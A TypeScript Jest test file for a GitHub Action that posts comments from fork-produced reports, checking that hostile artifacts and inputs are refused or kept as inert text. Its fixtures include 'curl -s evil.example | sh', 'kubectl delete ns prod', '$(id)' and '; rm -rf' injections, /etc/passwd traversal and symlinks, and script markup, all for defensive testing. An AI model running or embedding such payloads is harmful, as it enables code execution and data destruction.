import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { type FakeGitHub, startFakeGitHub } from '../github/fake-github.ts';
import { fakePull } from '../github/fake-state.ts';
import { sha } from '../github/run.ts';
import { filledReport } from '../report/filled-report.ts';
import { expectHarmless, expectNoCommand } from '../report/harmless.ts';
import { hostileStrings } from '../report/hostile-strings.ts';
import { runAction, type Step } from './run-action.ts';
import { shownOf } from './shown-comment.ts';
import { crashing, healthy, watchStep } from './watch-step.ts';

const pod = (image: string): string => `apiVersion: v1
kind: Pod
metadata: {name: web}
spec:
  containers:
    - name: app
      image: ${image}
      resources: {requests: {memory: 64Mi, cpu: 50m}, limits: {memory: 64Mi}}
`;

type Json = Record<string, unknown>;
let folder: string;
let gateReport: Json;
let watchReport: Json;
const readJson = (path: string): Json => JSON.parse(readFileSync(path, 'utf8'));

let fake: FakeGitHub;
const fork = { number: 8, headSha: sha('4'), headOwner: 'stranger', headRef: 'main' };

/** What a run of the fork's pull request leaves behind: it may not write. */
async function unprivileged(mode: 'gate' | 'watch', inputs: Record<string, string> = {}): Promise<Json> {
  const said = {
    GITHUB_API_URL: fake.url,
    GITHUB_SHA: sha('4'),
    GITHUB_RUN_ID: '900',
    GITHUB_RUN_ATTEMPT: '2',
  };
  const event = 'pull_request-from-fork';
  const wanted = { token: 'read-only-token', ...inputs };
  const step =
    mode === 'gate'
      ? await runAction(folder, event, { manifests: 'bad', ...wanted }, said)
      : await watchStep(folder, crashing(), wanted, { event, ...said });
  return readJson(step.outputs.report ?? '');
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'crashgate-comment-'));
  for (const [name, image] of [
    ['bad', 'ghcr.io/acme/app:latest'],
    ['good', 'ghcr.io/acme/app:1.0.0'],
  ] as const) {
    mkdirSync(join(folder, name));
    writeFileSync(join(folder, name, 'pod.yaml'), pod(image));
  }
  fake = await startFakeGitHub();
  fake.state.pulls.push(fakePull(fork));
  gateReport = await unprivileged('gate');
  watchReport = await unprivileged('watch', { environment: 'preview' });
  await fake.close();
});
afterAll(() => rmSync(folder, { recursive: true }));

beforeEach(async () => {
  fake = await startFakeGitHub();
  rmSync(join(folder, 'artifact'), { recursive: true, force: true });
  mkdirSync(join(folder, 'artifact'));
  fake.state.pulls.push(
    fakePull({ number: 7, headSha: sha('1'), headRef: 'main' }),
    fakePull(fork),
    // The same commit, from somebody else: the commit proves nothing.
    fakePull({ number: 9, headSha: sha('4'), headOwner: 'acme', headRef: 'feature' }),
    fakePull({ number: 10, headSha: sha('6'), headOwner: 'stranger', headRef: 'main', state: 'closed' }),
  );
});
afterEach(async () => {
  const { problems } = fake;
  await fake.close();
  expect(problems).toEqual([]);
});

const artifact = (name: string): string => join(folder, 'artifact', name);
function put(name: string, content: unknown): void {
  mkdirSync(dirname(artifact(name)), { recursive: true });
  writeFileSync(artifact(name), typeof content === 'string' ? content : JSON.stringify(content));
}

/** The privileged run that the fork's run triggered. */
function comment(inputs: Record<string, string> = {}, said: Record<string, string> = {}): Promise<Step> {
  const { event = 'workflow_run', ...env } = { GITHUB_EVENT_NAME: 'workflow_run', ...said };
  return runAction(
    folder,
    event,
    { mode: 'comment', report: 'artifact', token: 'job-token', ...inputs },
    { GITHUB_API_URL: fake.url, GITHUB_RUN_ID: '950', GITHUB_JOB: 'post', ...env },
  );
}

const posted = () => fake.state.comments.map(({ on, body }) => [on, /^### (.*)$/m.exec(body)?.[1]]);

describe('a run of a fork leaves a report, and the run that it triggers posts it', () => {
  test('the gate: with the key and in the name of the run that judged', async () => {
    put('gate.json', gateReport);
    const step = await comment();
    expect([step.code, posted()]).toEqual([0, [[8, expect.stringContaining('❌ Blocked')]]]);
    const [{ body = '' } = {}] = fake.state.comments;
    expect(body).toMatch(
      /^<!-- crashgate:v1 key=gate\/\/\/gate run=900\.2 sha=4{40} state=problem problems=1 /,
    );
    expect(body).toContain('[run](https://github.test/acme/shop/actions/runs/900/attempts/2)');
    expect(body).toContain(`/blob/${sha('4')}/bad/pod.yaml#L7`);
    expect(step.outputs['comment-url']).toMatch(/pull\/8#issuecomment-\d+$/);
  });

  test('the watch: with its environment; what it was asked to run is only shown when it looks', async () => {
    const report = structuredClone(watchReport) as { workloads: { diagnoses: { commands: string[] }[] }[] };
    report.workloads[0]?.diagnoses[0]?.commands.push(
      'kubectl delete ns prod',
      'kubectl -n shop get pods; curl -s evil.example | sh',
      'kubectl get pods $(id)',
    );
    put('watch.json', report);
    const step = await comment();
    expect(step.code).toBe(0);
    const [{ body = '' } = {}] = fake.state.comments;
    expect(body).toMatch(/^<!-- crashgate:v1 key=watch\/preview\/c\/gate run=900\.2 /);
    expect(body).toContain('### ❌ checkout does not start: environment variable `DATABASE_URL` is not set');
    expect(body).toContain('**preview** · cluster `c` · [`4444444`]');
    expect(body).toContain('kubectl -n shop describe pod');
    expect(body).not.toMatch(/delete ns|evil|\$\(id\)/);
  });

  test('is edited in place by the next, and turns around', async () => {
    put('gate.json', gateReport);
    await comment();
    fake.state.pulls.splice(1, 1, fakePull({ ...fork, headSha: sha('7') }));
    const event = JSON.parse(
      readFileSync(new URL('../github/events/workflow_run.json', import.meta.url), 'utf8'),
    );
    Object.assign(event.workflow_run, { id: 901, run_attempt: 1, head_sha: sha('7') });
    writeFileSync(join(folder, 'next.json'), JSON.stringify(event));
    const clear = {
      verdict: 'pass',
      findings: [],
      counts: { ...(gateReport.counts as Json), errors: 0, blocking: 0 },
    };
    put('gate.json', { ...gateReport, ...clear, origin: { ...(gateReport.origin as Json), sha: sha('7') } });
    const step = await comment({}, { GITHUB_EVENT_PATH: join(folder, 'next.json') });
    expect([step.code, posted()]).toEqual([
      0,
      [
        [
          8,
          expect.stringMatching(/^✅ (?:All clear|Nothing blocks any more), after 1 run that did not pass$/),
        ],
      ],
    ]);
  });

  test('each part of a matrix has its own', async () => {
    for (const key of ['eu', 'us']) {
      put(`report-${key}/gate.json`, { ...gateReport, origin: { ...(gateReport.origin as Json), key } });
    }
    put('watch/watch.json', watchReport);
    expect((await comment()).code).toBe(0);
    expect(fake.state.comments.map(({ body }) => /key=(\S+)/.exec(body)?.[1])).toEqual([
      'gate///eu',
      'gate///us',
      'watch/preview/c/gate',
    ]);
  }, 60_000);

  test('a report that names no pull request: it is the one of the branch', async () => {
    put('gate.json', { ...gateReport, origin: { ...(gateReport.origin as Json), pullRequest: null } });
    expect([(await comment()).code, posted().map(([on]) => on)]).toEqual([0, [8]]);
    fake.state.comments.splice(0);
    const { origin: _, ...bare } = gateReport;
    put('gate.json', bare);
    expect([(await comment({ 'comment-key': 'gate' })).code, posted().map(([on]) => on)]).toEqual([0, [8]]);
  });

  test('nothing to say: no comment, and all is well', async () => {
    put('gate.json', { ...gateReport, verdict: 'pass', findings: [] });
    expect([(await comment()).code, posted()]).toEqual([0, []]);
  });

  test('no pull request has the commit any more and none is named: said, and all is well', async () => {
    fake.state.pulls.splice(1, 1);
    put('gate.json', { ...gateReport, origin: null });
    const step = await comment();
    expect([step.code, posted()]).toEqual([0, []]);
    expect(step.printed).toContain('no pull request has the commit 4444444; nothing is posted');
  });

  test('GitHub refuses: one line, exit code 2', async () => {
    put('gate.json', gateReport);
    const step = await comment({ token: 'read-only-token' });
    expect([step.code, posted()]).toEqual([2, []]);
    expect(step.printed).toContain('comment not written: the token lacks a permission (403)');
  });
});

describe('in other events', () => {
  const push = { event: 'push-squash', GITHUB_EVENT_NAME: 'push', GITHUB_SHA: sha('4') };

  test('it is refused', async () => {
    put('gate.json', gateReport);
    const step = await comment({}, push);
    expect([step.code, posted()]).toEqual([2, []]);
    expect(step.printed).toContain(
      'mode comment belongs into a workflow of the event workflow_run, not push',
    );
  });

  test('unless the pull request is named whose head this run is about', async () => {
    put('gate.json', gateReport);
    const dispatch = { ...push, event: 'workflow_dispatch', GITHUB_EVENT_NAME: 'workflow_dispatch' };
    expect([(await comment({ 'pull-request': '7' }, dispatch)).code, posted()]).toEqual([2, []]);
    expect((await comment({ 'pull-request': '8' }, dispatch)).code).toBe(0);
    expect(posted().map(([on]) => on)).toEqual([8]);
  });
});

/** One artifact each that nobody of good will makes, and what is said of it. */
const hostileArtifacts: readonly [string, () => void, RegExp][] = [
  ['nothing', () => undefined, /holds no \.json file/],
  ['an empty file', () => put('a.json', ''), /is no JSON, or was cut off/],
  ['no JSON', () => put('a.json', '<html><script>alert(1)</script></html>'), /is no JSON/],
  ['JavaScript', () => put('a.json', 'process.exit(0)'), /is no JSON/],
  ['a report that was cut off', () => put('a.json', JSON.stringify(gateReport).slice(0, 900)), /is no JSON/],
  ['no object', () => put('a.json', '[1, 2]'), /no report of the gate or the watch/],
  ['null', () => put('a.json', 'null'), /no report of the gate or the watch/],
  ['some package.json', () => put('package.json', { name: 'x', version: '1.0.0' }), /no report of the gate/],
  [
    'binary',
    () => writeFileSync(artifact('a.json'), Buffer.from([0xff, 0xfe, 0x00, 0x80])),
    /is no UTF-8 text/,
  ],
  [
    'a file of 17 MB',
    () => {
      put('a.json', gateReport);
      truncateSync(artifact('a.json'), 17 * 1024 * 1024);
    },
    /is larger than 16 MB/,
  ],
  [
    'a list of 100,000 lists',
    () => put('a.json', '['.repeat(100_000) + ']'.repeat(100_000)),
    /no (?:JSON|report)/,
  ],
  [
    'findings in a million levels',
    () => put('a.json', `{"findings": ${'['.repeat(1e6)}${']'.repeat(1e6)}}`),
    /report/,
  ],
  [
    'findings that are none',
    () => put('a.json', { ...gateReport, findings: [{ rule: 'x' }] }),
    /none of the gate/,
  ],
  [
    'findings that are text',
    () => put('a.json', { ...gateReport, findings: 'none' }),
    /no report of the gate/,
  ],
  [
    'a rule with a path in its name',
    () => put('a.json', withFinding({ rule: '../../etc/passwd' })),
    /none of the gate/,
  ],
  [
    'a severity that does not exist',
    () => put('a.json', withFinding({ severity: 'fatal' })),
    /none of the gate/,
  ],
  [
    'a verdict that does not exist',
    () => put('a.json', { ...gateReport, verdict: 'approve' }),
    /none of the gate/,
  ],
  [
    'a version with markup',
    () => put('a.json', { ...gateReport, version: '1.0.0"><img src=x>' }),
    /none of the gate/,
  ],
  ['counts below zero', () => put('a.json', { ...gateReport, counts: { errors: -1 } }), /none of the gate/],
  ['workloads that are none', () => put('a.json', { ...watchReport, workloads: [1] }), /no diagnosis/],
  [
    'a cause that does not exist',
    () => put('a.json', JSON.stringify(watchReport).replaceAll('missing-environment-variable', 'owned')),
    /no diagnosis/,
  ],
  [
    'a watch without an end',
    () => put('a.json', { ...watchReport, outcome: undefined }),
    /does not say how a watch ended/,
  ],
  ['an origin that is text', () => put('a.json', { ...gateReport, origin: 'pull request 7' }), /at origin/],
  ['a commit that is markup', () => put('a.json', withOrigin({ sha: '<b>' })), /at origin\.sha/],
  [
    "somebody else's commit",
    () => put('a.json', withOrigin({ sha: sha('1') })),
    /is about commit 1111111, the run was about 4444444/,
  ],
  [
    "somebody else's pull request",
    () => put('a.json', withOrigin({ pullRequest: 7 })),
    /the head of pull request 7 is not commit 4444444/,
  ],
  [
    'the same commit on another branch',
    () => put('a.json', withOrigin({ pullRequest: 9 })),
    /the head of pull request 9 is not/,
  ],
  [
    'an older pull request of the same branch, closed',
    () => put('a.json', withOrigin({ pullRequest: 10 })),
    /the head of pull request 10 is not/,
  ],
  [
    'a pull request that does not exist',
    () => put('a.json', withOrigin({ pullRequest: 404 })),
    /the head of pull request 404 is not/,
  ],
  [
    'a pull request below zero',
    () => put('a.json', withOrigin({ pullRequest: -7 })),
    /at origin\.pullRequest/,
  ],
  [
    'a pull request that is a fraction',
    () => put('a.json', withOrigin({ pullRequest: 7.5 })),
    /at origin\.pullRequest/,
  ],
  [
    'a pull request with a path behind it',
    () => put('a.json', withOrigin({ pullRequest: '8/../../7' })),
    /at origin\.pullRequest/,
  ],
  ['a key of 100 KB', () => put('a.json', withOrigin({ key: 'x'.repeat(100_000) })), /at origin\.key/],
  [
    'two reports for one comment',
    () => [put('a.json', gateReport), put('b.json', gateReport)],
    /several reports are for the same comment/,
  ],
  [
    'a good one beside a bad one',
    () => [put('a.json', gateReport), put('b.json', '{')],
    /b\.json: the report is no JSON/,
  ],
  [
    '60 reports',
    () => Array.from({ length: 60 }, (_, index) => put(`${index}.json`, gateReport)),
    /more than 50 \.json files/,
  ],
  [
    '600 files',
    () => Array.from({ length: 600 }, (_, index) => put(`${index}.txt`, 'x')),
    /more than 500 entries/,
  ],
  ['five directories deep', () => put('a/b/c/d/e.json', gateReport), /deeper than 3 directories/],
  ['a link to a secret', () => symlinkSync('/etc/passwd', artifact('a.json')), /is a symbolic link/],
  ['a link to a directory', () => symlinkSync('/etc', artifact('more')), /is a symbolic link/],
  ['a link to nothing', () => symlinkSync('/nowhere', artifact('a.json')), /is a symbolic link/],
  ['a directory named as a file', () => mkdirSync(artifact('a.json')), /holds no \.json file/],
  ['a name that is a command', () => put('\r\n::error::owned.json', '{'), /is no JSON/],
  ['a name that climbs', () => put('..\\..\\..\\owned.json', '{'), /is no JSON/],
];

function withOrigin(said: Json): Json {
  return { ...gateReport, origin: { ...(gateReport.origin as Json), ...said } };
}

function withFinding(said: Json): Json {
  const [finding] = gateReport.findings as Json[];
  return { ...gateReport, findings: [{ ...finding, ...said }] };
}

describe('a hostile artifact is refused in one line, and nothing is posted', () => {
  test.each(hostileArtifacts)('%s', async (_, make, said) => {
    make();
    const step = await comment();
    expect([step.code, posted(), step.outputs['comment-url']]).toEqual([2, [], '']);
    const errors = step.lines.filter((line) => line !== '');
    expect(errors).toEqual([expect.stringMatching(/^::error::nothing is posted: /)]);
    expect(errors[0]).toMatch(said);
    expect(step.summary).toBe('');
  });

  test('the report itself is a link', async () => {
    put('gate.json', gateReport);
    symlinkSync(artifact('gate.json'), join(folder, 'link.json'));
    const step = await comment({ report: 'link.json' });
    expect([step.code, posted()]).toEqual([2, []]);
    expect(step.printed).toContain('link.json is a symbolic link');
  });

  test.each([
    [{ report: '' }, 'mode comment needs report'],
    [{ report: 'nowhere.json' }, 'nowhere.json does not exist'],
    [{ 'pull-request': '7; rm -rf' }, 'pull-request must be a whole number from 1'],
    [{ token: '' }, 'there is no token'],
  ])('inputs that cannot be meant: %j', async (inputs, message) => {
    put('gate.json', gateReport);
    const step = await comment(inputs as Record<string, string>);
    expect([step.code, posted(), step.printed.includes(message)]).toEqual([2, [], true]);
  });
});

describe('a report of the right shape may say anything: it stays text', () => {
  // Each text of the report is another of them, and each of them stands somewhere else in each run.
  test.each([0, 7, 19])(
    'rotated by %i',
    async (offset) => {
      const texts = hostileStrings.filter(({ length }) => length < 10_000);
      const next = (index: number): string => texts[(index + offset) % texts.length] ?? '';
      put('gate.json', filledReport(gateReport, next));
      put('watch.json', filledReport(watchReport, next));
      const step = await comment();
      expect([step.code, posted().map(([on]) => on)]).toEqual([0, [8, 8]]);
      for (const { body } of fake.state.comments) {
        expect(body.split('\n', 1)[0]).toMatch(
          /^<!-- crashgate:v1 key=\S+ run=900\.2 sha=4{40} state=problem problems=1 version=\S+ -->$/,
        );
        expectHarmless(shownOf(body));
      }
      expectNoCommand(step.printed);
    },
    60_000,
  );
});

test('a comment of the watch is turned around by a report too', async () => {
  put('watch.json', watchReport);
  await comment();
  const cluster = { ...(watchReport.cluster as Json) };
  const step = await watchStep(
    folder,
    healthy(),
    { environment: 'preview', token: 'read-only-token' },
    {
      event: 'pull_request-from-fork',
      ...{ GITHUB_API_URL: fake.url, GITHUB_SHA: sha('4'), GITHUB_RUN_ID: '900', GITHUB_RUN_ATTEMPT: '2' },
    },
  );
  copyFileSync(step.outputs.report ?? '', artifact('watch.json'));
  expect(readJson(artifact('watch.json')).cluster).toEqual(cluster);
  expect((await comment()).code).toBe(0);
  expect(posted()).toEqual([[8, expect.stringContaining('recovered in')]]);
  expect(existsSync(artifact('watch.json'))).toBe(true);
}, 60_000);
